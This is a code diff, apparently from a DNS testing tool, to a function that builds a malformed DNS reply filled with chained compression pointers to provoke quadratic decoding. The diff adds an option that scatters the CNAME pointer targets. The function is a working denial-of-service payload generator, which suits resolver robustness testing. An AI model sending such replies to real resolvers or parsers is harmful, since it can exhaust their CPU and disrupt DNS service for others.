@@ -517,12 +517,12 @@ def draw(
 # -- raw-wire attacks ------------------------------------------------------------------
 
 
-def pointer_chain(query: Message, size: int = 65000) -> bytes:
-    """A reply whose names are long chains of compression pointers (issue:
-    quadratic decoding).  The first answer record's rdata is a root label
-    followed by pointers each pointing two octets back; then CNAME records
-    whose owner and target point into the far end of that chain, until
-    ``size`` octets."""
+def pointer_chain(query: Message, size: int = 65000, *, spread: bool = False) -> bytes:
+    """A reply whose names are long chains of compression pointers (the
+    quadratic-decoding attack).  The first answer record's rdata is a root
+    label followed by pointers each pointing two octets back; then CNAME
+    records whose owner and target point into the far end of that chain
+    (``spread``: into ever other places of it), until ``size`` octets."""
     q = query.question[0]
     out = bytearray(struct.pack("!HHHHHH", query.id, 0x8180, 1, 0, 0, 0))
     out += q.name.to_wire() + struct.pack("!HH", q.rrtype, q.rrclass)
@@ -538,8 +538,10 @@ def pointer_chain(query: Message, size: int = 65000) -> bytes:
     last = start + 2 * chain_words - 1  # the deepest pointer
     count = 1
     while len(out) + 14 <= size and count < 65535:
-        out += struct.pack("!HHHIH", 0xC000 | last, RRType.CNAME, 1, 0, 2)
-        out += struct.pack("!H", 0xC000 | last)
+        owner = last - 2 * ((count * 7919) % chain_words) if spread else last
+        target = last - 2 * ((count * 104729) % chain_words) if spread else last
+        out += struct.pack("!HHHIH", 0xC000 | owner, RRType.CNAME, 1, 0, 2)
+        out += struct.pack("!H", 0xC000 | target)
         count += 1
     struct.pack_into("!H", out, 6, count)
     return bytes(out)
